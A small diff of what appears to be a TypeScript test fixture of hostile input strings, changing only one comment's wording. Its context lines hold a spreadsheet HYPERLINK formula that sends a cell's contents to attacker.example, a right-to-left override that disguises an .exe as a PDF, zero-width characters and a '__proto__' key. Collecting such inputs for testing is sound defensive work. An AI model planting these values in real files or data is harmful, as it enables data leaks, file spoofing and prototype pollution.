@@ -12,7 +12,7 @@ export const hostileTexts = {
   formula: '=HYPERLINK("https://attacker.example?"&A1,"click")',
   /** Marks that turn the direction round, and characters without a width. */
   bidi: 'invoice\u202Efdp.exe\u2066 un\u200B\u2060seen\uFEFF \u200Fend',
-  /** One word without a place to break it. */
+  /** One word without a location to break it. */
   longWord: 'Wide'.repeat(LONG / 4),
   longProse: 'much to read '.repeat(LONG / 13 + 1).slice(0, LONG),
   proto: '__proto__',
